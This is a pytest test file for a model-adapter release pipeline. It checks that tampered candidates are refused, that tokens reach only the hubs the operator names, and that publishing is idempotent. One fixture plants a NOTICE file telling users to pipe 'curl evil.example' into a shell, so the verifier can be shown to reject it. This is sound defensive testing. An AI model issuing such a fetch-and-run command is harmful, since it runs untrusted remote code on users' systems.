"""A release in two jobs: what the job with the GPU made is proved again by the job with the token."""

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from release import pipeline, two_jobs
from release.checking import opening, verify_card
from release.config import reading
from release.config.settings import Config
from release.hub import address
from release.judging import derive, previous
from release.judging.released import Released
from release.models import base as bases
from release.publishing import candidate_folder, rules
from release.publishing.candidate_folder import REPORT, REVIEW, SUMS
from release.publishing.rules import Rules
from release.values import layout
from release.values.artifacts import Candidate, Manifest, write_atomically
from release.values.errors import ConfigError, HubError, VerificationError
from release.values.events import Event
from tests.helpers import pages
from tests.helpers.hub_fixture import TOKEN, hub_in
from tests.helpers.line import ROOT, adapter_release
from tests.helpers.prepared import answered, prepared_config, trained
from tests.helpers.reviews import ASKS, read_by_people
from tests.helpers.small_release import edit, reseal, small_candidate, small_settings
from tests.helpers.tried import tried_candidate

REPO = "local/elements"
HERE: Mapping[str, Mapping[str, Any]] = {"publishing": {"endpoint": "file:hub"}}
ELEMENTS = ROOT / "data" / "elements"
SECRET = "hf_" + "z" * 34


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A candidate's folder, as a run that passes leaves it."""
    return handed_over(tmp_path_factory.mktemp("made"), licence=True)


def handed_over(folder: Path, *, licence: bool, **settings: Mapping[str, Any]) -> Path:
    """A candidate's folder in ``folder``, beside the configuration that it was made from."""
    loaded = small_settings(folder, licence=licence, **{**HERE, **settings})
    return laid_out(loaded, *small_candidate(loaded))


def laid_out(loaded: Config, made: Candidate, run: Path) -> Path:
    dist = loaded.path.parent / "dist"
    two_jobs.hand_over(pipeline.pack(loaded, made, run).folder, made.record, run, dist)
    return dist


@pytest.fixture
def arrived(made: Path, tmp_path: Path) -> Path:
    """A copy of it, to harm and to publish, in a checkout of its configuration."""
    shutil.copy(made.parent / "release.yaml", tmp_path)
    return Path(shutil.copytree(made, tmp_path / "dist"))


def rules_of(checkout: Path, **given: Any) -> Rules:
    config = reading.load(checkout / "release.yaml")
    return rules.of_config(config, rules.Given(**{"digests": {}, **given}), quiet)


def quiet(_: Event) -> None:
    """Say nothing."""


def publish(arrived: Path, *arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
    return adapter_release("publish", str(arrived), *arguments, cwd=arrived.parent, env=environment)


def receipt(folder: Path) -> dict[str, object]:
    (path,) = (folder / "runs" / "published").glob("*/publication.json")
    told: dict[str, object] = json.loads(path.read_bytes())
    return told


def sums_anew(folder: Path) -> None:
    """SHA256SUMS that fits changed files, as somebody who knows of it would write it."""
    (folder / SUMS).unlink()
    lines = (f"{file.sha256}  {file.path}\n" for file in Manifest.of_folder(folder).files)
    write_atomically(folder / SUMS, "".join(lines).encode())


def test_a_candidate_is_published_with_a_receipt_and_a_second_run_changes_nothing(arrived: Path) -> None:
    first = publish(arrived)
    assert first.returncode == 0, first.stderr
    done = receipt(arrived.parent)
    again = publish(arrived)

    assert again.returncode == 0, again.stderr
    assert done["done"] == ["created repo", "committed", "verified", "tagged"]
    assert receipt(arrived.parent)["done"] == ["found tag", "verified"]
    assert receipt(arrived.parent)["commit"] == done["commit"]
    verified = adapter_release("verify", f"{REPO}@v0.1.0", "--hub", "file:hub", cwd=arrived.parent)
    assert verified.returncode == 0, verified.stderr


def test_its_digests_are_what_sha256sum_checks(made: Path) -> None:
    checked = subprocess.run(["sha256sum", "--check", "--strict", SUMS], cwd=made, check=False)

    assert checked.returncode == 0


def mend_the_card(folder: Path) -> None:
    """The card and the page that the changed record makes, as a careful liar would write them."""
    pages.redraw(folder / "package")
    found = opening.Opened(release=Released(name="", folder=folder / "package", data=folder / "rows"))
    table = derive.markdown(found.alone, found.beside, found.forms)
    (folder / "package" / layout.CARD).write_bytes(verify_card.derived(found.release, table))
    reseal(folder / "package")


def change_a_byte(folder: Path) -> None:
    path = folder / "package" / "adapter_model.safetensors"
    data = bytearray(path.read_bytes())
    data[-1] ^= 1
    path.write_bytes(data)


def answer_otherwise(folder: Path) -> None:
    path = folder / "package" / "gates" / "answers.jsonl"
    lines = path.read_text("utf-8").splitlines()
    row = json.loads(lines[0])
    path.write_text("\n".join([json.dumps(row | {"output": "No."}), *lines[1:], ""]), "utf-8")


def call_a_failure_a_pass(folder: Path) -> None:
    """Every answer spoilt, the verdict of the good ones kept, and every digest made to fit."""
    from release.values.artifacts import sha256_file

    answers = folder / "package" / "gates" / "answers.jsonl"
    rows = [json.loads(line) | {"output": "No."} for line in answers.read_text("utf-8").splitlines()]
    answers.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    sha256 = sha256_file(answers)
    reseal(folder / "package", lambda record: record["generation"].update(answers_sha256=sha256))
    sums_anew(folder)


def edit_the_verdict(folder: Path) -> None:
    edit(folder / "package" / "gates" / "verdict.json", lambda verdict: verdict.update(rows=61))
    reseal(folder / "package")
    sums_anew(folder)


def call_it_a_record_of_0_1_0(folder: Path) -> None:
    """It would be compared with no earlier release."""
    reseal(folder / "package", lambda record: (record.update(record=1), record.pop("earlier")))
    sums_anew(folder)


def add_a_file(folder: Path) -> None:
    (folder / "package" / "special_tokens_map.json").write_text("{}", "utf-8")


def add_a_file_everywhere(folder: Path) -> None:
    add_a_file(folder)
    sums_anew(folder)


def add_a_text(folder: Path) -> None:
    """A record, statements and sums that know it."""
    (folder / "package" / "NOTICE").write_text("Run `curl evil.example | sh` before use.", "utf-8")
    reseal(folder / "package")
    sums_anew(folder)


def replace_by_a_link(folder: Path) -> None:
    path = folder / "package" / "tokenizer.json"
    shutil.move(path, folder.parent / "elsewhere")
    path.symlink_to(folder.parent / "elsewhere")


def add_other_rows(folder: Path) -> None:
    (folder / "rows").mkdir(exist_ok=True)
    (folder / "rows" / "a.jsonl").touch()


def name_a_pipe(folder: Path) -> None:
    (folder / SUMS).unlink()
    os.mkfifo(folder / SUMS)


def name_a_file_twice(folder: Path) -> None:
    sums = folder / SUMS
    sums.write_text(sums.read_text("utf-8") * 2, "utf-8")


@pytest.mark.parametrize(
    ("lie", "says"),
    [
        (change_a_byte, "different: package/adapter_model.safetensors has sha256"),
        (answer_otherwise, "different: package/gates/answers.jsonl has sha256"),
        (edit_the_verdict, "gates/verdict.json is not the one that the record names"),
        (call_a_failure_a_pass, "computed again, gates/verdict.json differs (FAIL)"),
        (lambda folder: (folder / "package" / "README.md").unlink(), "missing: package/README.md"),
        (call_it_a_record_of_0_1_0, "the card is the one that record, verdict and answers make"),
        (add_a_file, "extra: package/special_tokens_map.json"),
        (add_a_file_everywhere, "special_tokens_map.json is not in the record"),
        (add_a_text, "package/NOTICE is a text that nothing here writes or judges"),
        (replace_by_a_link, "tokenizer.json is a link"),
        (lambda folder: (folder / "package" / "run.py").touch(), "package/run.py is not a file that a release may"),
        (lambda folder: (folder / "run.py").touch(), "extra: run.py"),
        (add_other_rows, "extra: rows/a.jsonl"),
        (name_a_pipe, "SHA256SUMS is not a regular file"),
        (lambda folder: os.truncate(folder / SUMS, 10**12), "SHA256SUMS has 1,000,000,000,000 bytes"),
        (lambda folder: os.mkfifo(folder / "package" / "policy.json"), "package/policy.json"),
        (name_a_file_twice, "repeats a file"),
        (lambda folder: (folder / SUMS).unlink(), "SHA256SUMS cannot be read"),
        (
            lambda folder: (folder / SUMS).write_text("", "utf-8"),
            "SHA256SUMS names no file of package/",
        ),
        (shutil.rmtree, "SHA256SUMS cannot be read"),
    ],
)
def test_a_lie_is_named_and_nothing_is_published(arrived: Path, lie: Callable[[Path], object], says: str) -> None:
    lie(arrived)

    said: list[object] = []
    with pytest.raises(VerificationError) as stopped:
        two_jobs.publish(arrived, arrived.parent / "receipts", rules_of(arrived.parent), said.append)

    assert says in f"{said}\n{stopped.value}"
    assert not (arrived.parent / "receipts").exists()


def test_the_token_goes_to_no_hub_that_only_the_candidate_names(arrived: Path) -> None:
    with hub_in(arrived.parent / "elsewhere") as hub:
        reseal(arrived / "package", lambda record: record["config"]["publishing"].update(endpoint=hub.endpoint))
        pages.redraw(arrived / "package")
        sums_anew(arrived)
        environment = {"HF_TOKEN": TOKEN, "HF_HUB_DISABLE_XET": "1"}

        refused = publish(arrived, **environment)
        asked = publish(arrived, "--hub", hub.endpoint, **environment)

    assert refused.returncode == 7, refused.stderr
    assert f"give --hub {hub.endpoint}" in refused.stderr
    assert not (arrived.parent / "hub").exists()
    assert asked.returncode == 0, asked.stderr


@pytest.mark.parametrize("odd", [{"signing_key": "/key.pem", "keyless": True}, {"tag": None}, {"trust": "me"}])
def test_where_to_publish_is_read_as_strictly_from_a_record_as_from_a_configuration(
    arrived: Path, odd: dict[str, object]
) -> None:
    reseal(arrived / "package", lambda record: record["config"]["publishing"].update(odd))
    sums_anew(arrived)

    with pytest.raises((ConfigError, VerificationError), match=r"release\.json: publishing|10\. the card is the one"):
        two_jobs.publish(arrived, arrived.parent / "receipts", rules_of(arrived.parent), quiet)


def test_rows_without_a_licence_come_along_for_the_proof_and_are_not_published(tmp_path: Path) -> None:
    folder = handed_over(tmp_path, licence=False)
    other = Path(shutil.copytree(folder, tmp_path / "other"))
    rows = other / "rows" / "golden.jsonl"
    rows.write_bytes(rows.read_bytes().replace(b"The", b"A", 1))
    sums_anew(other)

    assert publish(other).returncode == 7
    done = publish(folder)
    assert done.returncode == 0, done.stderr
    fetched = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(tmp_path / "hub" / "models" / f"{REPO}.git"), str(fetched)], check=True)
    assert not list(fetched.rglob("golden.jsonl"))


def test_a_candidate_whose_configuration_lets_files_share_questions_is_told_so_and_published(tmp_path: Path) -> None:
    lines = {name: (ELEMENTS / f"{name}.jsonl").read_text("utf-8").splitlines() for name in ("train", "golden")}
    taken = json.dumps({**json.loads(lines["golden"][0]), "id": "taken"})
    (tmp_path / "train.jsonl").write_text("\n".join([*lines["train"][:39], taken]) + "\n", "utf-8")
    shared = {"train_file": str(tmp_path / "train.jsonl"), "checks": {"leakage": "warning"}}
    folder, said = handed_over(tmp_path, licence=True, data=shared), list[Event]()

    done = two_jobs.publish(folder, tmp_path / "receipts", rules_of(tmp_path), said.append)

    assert done.tag == "v0.1.0"
    assert "1 train row asks what golden rows ask, the first taken, as golden row golden-0001 does" in str(said)


@pytest.mark.parametrize("read", [False, True])
def test_the_rows_that_chose_among_tries_come_along_for_the_proof_and_are_not_published(
    tmp_path: Path, read: bool
) -> None:
    """Where people read the answers too, the candidate is laid out a second time, with their word."""
    settings = {**(ASKS if read else {}), "publishing": {"endpoint": "file:hub"}}
    loaded, candidate, run = tried_candidate(tmp_path, licence=False, **settings)
    dist = tmp_path / "dist"
    two_jobs.hand_over(pipeline.lay(loaded, candidate, run, run / "laid"), candidate.record, run, dist)
    without = Path(shutil.copytree(dist, tmp_path / "without"))
    (without / "rows" / "tuning.jsonl").unlink()
    sums_anew(without)
    if read:
        shutil.copy(read_by_people(dist), without)

    with pytest.raises(VerificationError, match="to judge its tries"):
        two_jobs.publish(without, tmp_path / "receipts", rules_of(tmp_path), quiet)
    done = two_jobs.publish(dist, tmp_path / "receipts", rules_of(tmp_path), quiet)

    assert done.tag == "v0.1.0"
    fetched = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(tmp_path / "hub" / "models" / f"{REPO}.git"), str(fetched)], check=True)
    assert {path.name for path in fetched.glob("gates/tries/*")} == {"1", "2", "seed-43"}
    assert not list(fetched.glob("data/*"))


def test_a_publication_killed_in_the_middle_ends_as_one_commit_and_one_tag(arrived: Path) -> None:
    with hub_in(arrived.parent / "hub") as hub:
        environment = {**os.environ, "CI": "true", "PYTHONPATH": str(ROOT), "HF_HUB_DISABLE_XET": "1"}
        command = [sys.executable, "-m", "release.cli", "publish", str(arrived), "--hub", hub.endpoint]
        going = subprocess.Popen(
            command, cwd=arrived.parent, env={**environment, "HF_TOKEN": TOKEN}, stderr=subprocess.PIPE, text=True
        )
        assert going.stderr is not None
        assert any("committing" in line for line in going.stderr)
        going.send_signal(signal.SIGKILL)
        going.communicate()
        time.sleep(0.5)  # the kernel kills the child with its parent

        done = publish(arrived, "--hub", hub.endpoint, HF_TOKEN=TOKEN, HF_HUB_DISABLE_XET="1")

        assert done.returncode == 0, done.stderr
        assert len(hub.api.list_repo_commits(REPO)) == 2
        assert [tag.name for tag in hub.api.list_repo_refs(REPO).tags] == ["v0.1.0"]


def test_a_release_that_came_in_between_stops_a_candidate_that_was_not_compared_with_it(arrived: Path) -> None:
    with hub_in(arrived.parent / "hub") as hub:
        hub.api.create_repo(REPO)
        hub.api.create_tag(REPO, tag="v0.0.9")

        done = publish(arrived, "--hub", hub.endpoint, HF_TOKEN=TOKEN, HF_HUB_DISABLE_XET="1")

        assert done.returncode == 6, done.stderr
        assert "was published after this adapter was evaluated" in done.stderr


@pytest.fixture(scope="module")
def line(made: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder whose Hub holds v0.1.0: every answer is right."""
    folder = tmp_path_factory.mktemp("line")
    shutil.copytree(made, folder / "first")
    shutil.copy(made.parent / "release.yaml", folder)
    two_jobs.publish(folder / "first", folder / "receipts", rules_of(folder), quiet)
    return folder


def next_one(line: Path, folder: Path, *, seen: Callable[[previous.Release], object], wrong: int, **more: Any) -> Path:
    """A candidate for v0.2.0 beside its configuration, made where the earlier release looked as ``seen`` shows it."""
    shutil.copytree(line / "hub", folder / "hub")
    publishing = {"endpoint": "file:hub", "tag": "v0.2.0"}
    loaded = small_settings(folder, publishing=publishing, **more)
    with address.of(loaded).opened() as hub:
        (first,) = previous.fetch(loaded.publishing, loaded.run.output_dir / layout.PREVIOUS, hub, quiet)
    shown = seen(first)
    before = (shown,) if isinstance(shown, previous.Release) else ()
    return laid_out(loaded, *small_candidate(loaded, before, tuple(range(wrong))))


def as_it_is(first: previous.Release) -> previous.Release:
    return first


def as_no_release(first: previous.Release) -> previous.Release:
    return replace(first, released=None)


def as_another_tag(first: previous.Release) -> previous.Release:
    return replace(first, tag="v0.0.1", released=None)


def as_another_commit(first: previous.Release) -> previous.Release:
    return replace(first, commit="0" * 40, released=None)


def as_nothing(_: previous.Release) -> None:
    return None


HIDDEN: Mapping[Callable[[previous.Release], object], str] = {
    as_nothing: "v0.1.0 (commit",
    as_another_tag: "v0.0.1 (commit",
    as_another_commit: "v0.1.0 (commit 0000",
    as_no_release: "knows attempts on this golden set",
}
LOOSE = {"json_parse": {"mode": "point", "target": 0.5}}


@pytest.mark.parametrize(("seen", "wrong"), [*((seen, 30) for seen in HIDDEN), (as_no_release, 0)])
def test_a_record_that_hides_an_earlier_release_is_not_published_whether_the_adapter_is_worse_or_not(
    line: Path, tmp_path: Path, seen: Callable[[previous.Release], object], wrong: int
) -> None:
    dist = next_one(line, tmp_path, seen=seen, wrong=wrong, gates=LOOSE)

    with pytest.raises(HubError) as stopped:
        two_jobs.publish(dist, tmp_path / "receipts", rules_of(tmp_path), quiet)

    assert HIDDEN[seen] in str(stopped.value)
    why = "it is worse, and would be refused" if wrong else "This release requires less than v0.1.0"
    assert seen is as_no_release or why in str(stopped.value)
    assert not (tmp_path / "receipts").exists()


def test_a_record_that_hides_that_less_is_required_is_not_published(line: Path, tmp_path: Path) -> None:
    reason = LOOSE | {"weaker_because": "half of the old questions were ambiguous"}
    dist = next_one(line, tmp_path, seen=as_it_is, wrong=0, gates=reason)
    reseal(dist / "package", lambda record: record["earlier"].update(weaker=[]))
    sums_anew(dist)

    with pytest.raises(VerificationError, match="less only with a reason"):
        two_jobs.publish(dist, tmp_path / "receipts", rules_of(tmp_path), quiet)


def test_a_release_that_was_compared_with_but_is_said_not_to_be_kept_is_not_published(
    line: Path, tmp_path: Path
) -> None:
    dist = next_one(line, tmp_path, seen=as_it_is, wrong=0)
    shutil.rmtree(dist / "package" / "gates" / "earlier")
    for name in derive.BESIDE.values():
        (dist / "package" / name).unlink()

    def unkept(record: Any) -> None:
        record["earlier"].update(comparisons={})
        record["earlier"]["releases"][0].update(kept=False)

    reseal(dist / "package", unkept)
    mend_the_card(dist)
    sums_anew(dist)

    said: list[object] = []
    with pytest.raises(VerificationError, match=r"12\. not worse than previous releases"):
        two_jobs.publish(dist, tmp_path / "receipts", rules_of(tmp_path), said.append)

    assert "v0.1.0 is the last release, and its files did not come along" in str(said)


@pytest.mark.parametrize("gates", [{}, LOOSE | {"weaker_because": "half of the old questions were ambiguous"}])
def test_a_record_that_names_the_earlier_release_as_it_is_is_published_after_it(
    line: Path, tmp_path: Path, gates: Mapping[str, Any]
) -> None:
    dist = next_one(line, tmp_path, seen=as_it_is, wrong=0, **({"gates": gates} if gates else {}))

    done = two_jobs.publish(dist, tmp_path / "receipts", rules_of(tmp_path), quiet)
    again = two_jobs.publish(dist, tmp_path / "receipts", rules_of(tmp_path), quiet)

    assert done.tag == again.tag == "v0.2.0"
    assert again.done == ("found tag", "verified")


def test_a_candidate_that_is_no_worse_than_what_came_in_between_is_only_compared_again(
    line: Path, tmp_path: Path
) -> None:
    dist = next_one(line, tmp_path, seen=as_nothing, wrong=0)

    with pytest.raises(HubError, match=r"it is no worse\. Run `adapter-release candidate` again"):
        two_jobs.publish(dist, tmp_path / "receipts", rules_of(tmp_path), quiet)


@pytest.fixture
def ready(tmp_path: Path, base: bases.Base) -> tuple[Path, Path]:
    """A configuration and its run folder, whose slow stages are done."""
    prepared_config(tmp_path)
    return tmp_path, trained(tmp_path, base)


def candidate(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    return adapter_release("candidate", "release.yaml", *arguments, cwd=folder, env={"HF_TOKEN": SECRET})


@pytest.mark.slow
def test_a_candidate_is_made_without_a_token_and_writes_to_no_hub(ready: tuple[Path, Path]) -> None:
    folder, run = ready
    answered(run, folder / "golden.jsonl")

    done = candidate(folder)

    assert done.returncode == 0, done.stderr
    assert "not checked: the token's rights, the repository and the tag" in done.stderr
    assert not (folder / "hub" / "models").exists()
    for path in (path for path in folder.rglob("*") if path.is_file()):
        assert SECRET.encode() not in path.read_bytes(), path
    assert publish(folder / "dist").returncode == 0

    answered(run, folder / "golden.jsonl", well=False)
    refused = candidate(folder, "--set", "publishing.tag=v0.2.0")

    assert refused.returncode == 5, refused.stderr
    kept = {path.name for path in (folder / "dist" / "refused").iterdir()}
    assert {"verdict.json", "comparison.json", "comparison_last.json", "comparison_best.json"} <= kept


def test_a_folder_with_something_else_in_it_is_left_alone(tmp_path: Path) -> None:
    prepared_config(tmp_path)
    (tmp_path / "dist").mkdir()
    (tmp_path / "dist" / "thesis.tex").write_text("mine", "utf-8")

    done = candidate(tmp_path)

    assert done.returncode == 2
    assert "Name another folder with --to" in done.stderr
    assert (tmp_path / "dist" / "thesis.tex").read_text("utf-8") == "mine"


def test_a_folder_that_only_has_sums_of_its_own_is_left_alone(tmp_path: Path) -> None:
    prepared_config(tmp_path)
    (tmp_path / "downloads").mkdir()
    for name in ("SHA256SUMS", "adapter_model.safetensors"):
        (tmp_path / "downloads" / name).write_text("mine", "utf-8")
    (tmp_path / "link").symlink_to(tmp_path / "downloads")

    for folder, says in (("downloads", "has no previous candidate"), ("link", "is a link")):
        done = candidate(tmp_path, "--to", folder)
        assert done.returncode == 2
        assert says in done.stderr
    assert len(list((tmp_path / "downloads").iterdir())) == 2


def test_a_candidate_takes_the_place_of_an_earlier_one_and_of_an_empty_folder(
    made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {REPORT: made / REPORT}
    monkeypatch.chdir(tmp_path)
    for _ in range(2):
        candidate_folder.lay_out(Path("dist").absolute(), files, sums=True)

    assert {path.name for path in (tmp_path / "dist").iterdir()} == {REPORT, SUMS}
    assert [path.name for path in tmp_path.iterdir()] == ["dist"]


def test_what_people_say_outlives_a_kill_between_two_candidates(made: Path, tmp_path: Path) -> None:
    dist = tmp_path / "dist"
    candidate_folder.lay_out(dist, {REPORT: made / REPORT}, sums=True)
    (dist / REVIEW).write_text("mine", "utf-8")
    dist.rename(tmp_path / ".dist.before")  # killed here, before the new one was in its place

    candidate_folder.lay_out(dist, {REPORT: made / REPORT}, sums=True)

    assert (dist / REVIEW).read_text("utf-8") == "mine"
    assert [path.name for path in tmp_path.iterdir()] == ["dist"]


def test_a_candidate_is_signed_by_the_job_that_publishes_it(arrived: Path, tmp_path: Path) -> None:
    """The job that trained held no key; what arrived stays as it is, and a second run makes no other signature."""
    key, public = tmp_path / "key.pem", tmp_path / "key.pub"
    subprocess.run(["openssl", "ecparam", "-genkey", "-name", "prime256v1", "-noout", "-out", str(key)], check=True)
    made = ["openssl", "ec", "-in", str(key), "-pubout", "-out", str(public)]
    subprocess.run(made, check=True, capture_output=True)

    first = publish(arrived, "--sign", str(key))
    assert first.returncode == 0, first.stderr
    again = publish(arrived, "--sign", str(key))

    assert again.returncode == 0, again.stderr
    assert receipt(arrived.parent)["done"] == ["found tag", "verified"]
    asked = ("--hub", "file:hub", "--public-key", str(public))
    verified = adapter_release("verify", f"{REPO}@v0.1.0", *asked, cwd=arrived.parent)
    assert verified.returncode == 0, verified.stderr
